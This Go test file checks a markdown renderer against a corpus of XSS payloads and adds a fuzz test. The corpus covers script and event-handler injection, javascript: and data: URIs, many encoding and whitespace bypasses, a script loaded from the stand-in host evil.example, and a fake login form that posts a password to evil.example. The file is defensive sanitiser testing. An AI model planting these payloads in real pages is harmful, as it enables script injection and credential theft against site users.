package markdown

import (
	"strings"
	"testing"
)

// tricks that made some renderer or sanitiser give way.
var tricks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script`,
	"<script\n>alert(1)</script\n>",
	"<script/x>alert(1)</script>",
	"<\x00script>alert(1)</script>",
	`<<script>alert(1)//<</script>`,
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)//`,
	"<svg\nonload\n=\nalert(1)>",
	`<svg><script>alert&#40;1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)"`,
	`<img src=javascript:alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`,
	`<object data="data:text/html;base64,PHNjcmlwdD4="></object>`,
	`<embed src=//evil.example/x.swf>`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<p style="position:fixed;inset:0">x</p>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<form action=https://evil.example><input name=password><button>Sign in</button></form>`,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="https://example.org" onclick="alert(1)">x</a>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x]( javascript:alert(1))`,
	`[x](<javascript:alert(1)>)`,
	"[x](java\tscript:alert(1))",
	"[x](<java\tscript:alert(1)>)",
	"[x](<java\nscript:alert(1)>)",
	"[x](\x01javascript:alert(1))",
	"[x](\u00a0javascript:alert(1))",
	"[x](\u200bjavascript:alert(1))",
	`[x](java&Tab;script:alert(1))`,
	`[x](java&NewLine;script:alert(1))`,
	`[x](&#106;avascript:alert(1))`,
	`[x](&#x6A;avascript&#x3A;alert(1))`,
	`[x](&#0000106;avascript:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](%6Aavascript:alert(1))`,
	`[x](javascript%3Aalert(1))`,
	`[x](\javascript:alert(1))`,
	`[x](javascript\:alert(1))`,
	`[x](javascript://example.org/%0Aalert(1))`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](DATA:text/html,<script>alert(1)</script>)`,
	`[x](file:///etc/passwd)`,
	`[x](blob:https://example.org/1)`,
	`[x](https:javascript:alert(1))`,
	`[x](https://example.org "\" onmouseover=\"alert(1)")`,
	`[x](https://example.org '" onmouseover="alert(1)')`,
	`[x](https://example.org/"onmouseover="alert(1))`,
	`[x](https://example.org/&quot;onmouseover=&quot;alert(1))`,
	"[x]\n\n[x]: javascript:alert(1)",
	"[x][y]\n\n[y]: <java&#x0A;script:alert(1)> \"t\"",
	`<javascript:alert(1)>`,
	`<JAVASCRIPT:alert(1)>`,
	`<data:text/html,x>`,
	`<https://example.org/"onclick="alert(1)>`,
	`<x:" onmouseover="alert(1)>`,
	`![x](javascript:alert(1))`,
	`![x](data:image/svg+xml;base64,PHN2Zz4=)`,
	`![x](https://example.org/x.png"onerror="alert(1))`,
	`![" onerror="alert(1)](https://example.org/x.png)`,
	`![x](https://example.org/x.png "\" onerror=\"alert(1)")`,
	`![<img src=x onerror=alert(1)>](https://example.org/x.png)`,
	`[![x](javascript:alert(1))](javascript:alert(2))`,
	"```\"><script>alert(1)</script>\nx\n```",
	"``` x onload=alert(1)\nx\n```",
	"`<script>alert(1)</script>`",
	"    <script>alert(1)</script>",
	"# <script>alert(1)</script> {onclick=alert(1) id=x}",
	"# x {#forms .admin style=\"color:red\"}",
	"| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
	"> <script>\n> alert(1)\n> </script>",
	"- <iframe src=javascript:alert(1)>",
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&#60;script&#62;alert(1)&#60;/script&#62;`,
	`&amp;lt;script&amp;gt;`,
	"\xbcscript\xbealert(1)\xbc/script\xbe",
	"<scr\u0131pt>alert(1)</scr\u0131pt>",
	"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
	"https://example.org/<script>alert(1)</script>",
	"https://example.org/\"onmouseover=alert(1)",
	"www.example.org/'onclick=alert(1)",
	"javascript:alert(1)//https://example.org",
	"a@example.org?subject=<script>",
}

func TestRenderXSS(t *testing.T) {
	t.Parallel()
	for _, trick := range tricks {
		inspect(t, trick, Render(trick))
		for _, around := range []string{"**%**", "> %", "- %", "# %", "| a |\n|---|\n| % |", "[%](https://example.org)", "%%"} {
			src := strings.ReplaceAll(around, "%", trick)
			inspect(t, src, Render(src))
		}
	}
}

func TestRenderLosesNoWords(t *testing.T) {
	t.Parallel()
	for _, src := range []string{`<script>word</script>`, `<div>word</div>`, `<svg onload=word>`, `[word](javascript:x)`, `![word](data:x)`} {
		if got := string(Render(src)); !strings.Contains(got, "word") {
			t.Errorf("Render(%q) = %q: the word is lost", src, got)
		}
	}
}

func FuzzRender(f *testing.F) {
	for _, trick := range tricks {
		f.Add(trick)
	}
	f.Add("# a\n\n> - *b* **c** ~~d~~ `e`\n\n1. [f](https://g \"h\") ![i](https://j)\n\n|k|\n|-|\n|l|")
	f.Fuzz(func(t *testing.T, src string) {
		out := Render(src)
		inspect(t, src, out)
		if again := Render(src); again != out {
			t.Errorf("Render(%q) differs from one time to the next", src)
		}
	})
}
